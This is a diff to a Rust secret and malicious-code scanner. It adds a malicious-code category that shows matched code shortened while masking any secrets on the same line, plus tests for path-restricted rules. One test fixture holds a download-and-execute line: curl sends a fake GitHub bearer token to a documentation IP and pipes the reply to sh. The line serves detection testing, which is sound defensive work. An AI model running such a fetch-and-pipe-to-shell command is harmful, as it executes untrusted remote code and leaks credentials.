@@ -11,7 +11,7 @@ use std::path::{Path, PathBuf};
 use aho_corasick::AhoCorasick;
 use regex_automata::Input;
 
-use crate::rules::{Rule, RuleSet, Severity, entropy, is_placeholder};
+use crate::rules::{Category, Rule, RuleSet, Severity, entropy, is_placeholder};
 use crate::sensitive::{Kind, detect};
 
 /// The inline comment that accepts a finding on its line.
@@ -42,6 +42,9 @@ pub struct Finding {
     /// context too.
     #[serde(skip)]
     end: usize,
+    /// Whether the value is redacted in contexts (secrets and sensitive data; not code).
+    #[serde(skip)]
+    mask: bool,
 }
 
 /// What a scan of paths saw.
@@ -126,7 +129,9 @@ impl Scanner {
         for hit in self.keywords.find_overlapping_iter(data) {
             let line = line_starts.partition_point(|&s| s <= hit.start()) - 1;
             for &rule in &self.keyword_rules[hit.pattern().as_usize()] {
-                candidates.insert((line, rule));
+                if self.rules.rules()[rule].spec.applies_to(path) {
+                    candidates.insert((line, rule));
+                }
             }
         }
         let mut findings = Vec::new();
@@ -171,6 +176,7 @@ impl Scanner {
                         context: String::new(),
                         fingerprint: fingerprint(found.kind.id(), path, value),
                         end: found.end,
+                        mask: true,
                     });
                 }
             }
@@ -181,6 +187,7 @@ impl Scanner {
         // own.
         let spans: Vec<(usize, usize, usize)> = findings
             .iter()
+            .filter(|f| f.mask)
             .map(|f| (f.line, f.column - 1, f.end))
             .collect();
         for finding in &mut findings {
@@ -194,6 +201,11 @@ impl Scanner {
                 .map(|&(_, a, b)| (a, b))
                 .collect();
             finding.context = context(&data[start..end], finding.column - 1, finding.end, &on_line);
+            // Code is shown, but never a secret on the same line.
+            if !finding.mask {
+                finding.redacted =
+                    shorten_masked(&data[start..end], finding.column - 1, finding.end, &on_line);
+            }
         }
         findings
     }
@@ -216,6 +228,7 @@ impl Scanner {
             };
             let value = &text[secret.start..secret.end];
             let matched = &text[whole.start()..whole.end()];
+            let code = rule.spec.category == Category::Malicious;
             let has_keyword = rule
                 .spec
                 .keywords
@@ -223,7 +236,7 @@ impl Scanner {
                 .any(|k| contains(&matched.to_ascii_lowercase(), k.as_bytes()));
             if value.is_empty()
                 || !has_keyword
-                || is_placeholder(value)
+                || (!code && is_placeholder(value))
                 || rule.spec.entropy.is_some_and(|min| entropy(value) < min)
             {
                 continue;
@@ -235,10 +248,11 @@ impl Scanner {
                 rule: rule.spec.id.clone(),
                 description: rule.spec.description.clone(),
                 severity: rule.spec.severity,
-                redacted: redact(value),
+                redacted: if code { shorten(value) } else { redact(value) },
                 context: String::new(),
                 fingerprint: fingerprint(&rule.spec.id, path, value),
                 end: secret.end,
+                mask: !code,
             });
         }
         out
@@ -319,6 +333,30 @@ pub fn redact(secret: &[u8]) -> String {
     format!("{head}****({} chars)", secret.len())
 }
 
+/// Matched code as a finding shows it: at most 120 characters.
+fn shorten(code: &[u8]) -> String {
+    let text = String::from_utf8_lossy(code);
+    let mut out: String = text.chars().take(120).collect();
+    if text.chars().count() > 120 {
+        out.push('…');
+    }
+    out
+}
+
+/// `start..end` of `line` shortened, with any secret spans in it redacted.
+fn shorten_masked(line: &[u8], start: usize, end: usize, secrets: &[(usize, usize)]) -> String {
+    let inside: Vec<(usize, usize)> = secrets
+        .iter()
+        .filter(|(a, b)| *a < end && *b > start)
+        .map(|&(a, b)| (a.max(start) - start, b.min(end) - start))
+        .collect();
+    if inside.is_empty() {
+        return shorten(&line[start..end]);
+    }
+    let masked = context(&line[start..end], 0, end - start, &inside);
+    masked.chars().take(120).collect()
+}
+
 /// Up to 60 bytes either side of `start..end` in `line`, with every span in `redacted`
 /// (which includes `start..end`) shown redacted.
 fn context(line: &[u8], start: usize, end: usize, redacted: &[(usize, usize)]) -> String {
@@ -382,21 +420,59 @@ mod tests {
                 "{} has no examples",
                 rule.spec.id
             );
+            // A rule for certain files is tried on the first of them, and must stay quiet
+            // elsewhere.
+            let path = rule.spec.paths.first().map_or("x", String::as_str);
             for example in &rule.spec.examples {
-                let found = scanner.scan_bytes("x", example.as_bytes());
+                let found = scanner.scan_bytes(path, example.as_bytes());
+                if path != "x"
+                    && scanner
+                        .scan_bytes("README.md", example.as_bytes())
+                        .iter()
+                        .any(|f| f.rule == rule.spec.id)
+                {
+                    failures.push(format!("{}: fired outside {path}", rule.spec.id));
+                }
                 if !found.iter().any(|f| f.rule == rule.spec.id) {
                     failures.push(format!("{}: missed {example:?}", rule.spec.id));
                 }
             }
             for counter in &rule.spec.counter_examples {
-                let found = scanner.scan_bytes("x", counter.as_bytes());
+                let found = scanner.scan_bytes(path, counter.as_bytes());
                 if found.iter().any(|f| f.rule == rule.spec.id) {
                     failures.push(format!("{}: flagged {counter:?}", rule.spec.id));
                 }
             }
         }
         assert!(failures.is_empty(), "{}", failures.join("\n"));
-        assert!(scanner.rules.rules().len() >= 150);
+        let secrets = scanner
+            .rules
+            .rules()
+            .iter()
+            .filter(|r| r.spec.category == Category::Secret)
+            .count();
+        assert!(secrets >= 150, "{secrets} credential rules");
+    }
+
+    #[test]
+    fn malicious_code_is_shown_but_secrets_beside_it_are_not() {
+        let line = b"curl -H 'Authorization: Bearer ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E' https://203.0.113.9/x | sh\n";
+        let found = scanner().scan_bytes("deploy.sh", line);
+        let code = found
+            .iter()
+            .find(|f| f.rule == "download-and-execute-shell")
+            .expect("the download-and-execute is found");
+        assert_eq!(code.severity, Severity::Critical);
+        assert!(code.redacted.starts_with("curl -H"), "{}", code.redacted);
+        assert!(found.iter().any(|f| f.rule.starts_with("github")));
+        for f in &found {
+            assert!(
+                !f.redacted.contains("R2x9bQ7mVt4Lk8Zp1Ws6"),
+                "{}",
+                f.redacted
+            );
+            assert!(!f.context.contains("R2x9bQ7mVt4Lk8Zp1Ws6"), "{}", f.context);
+        }
     }
 
     #[test]
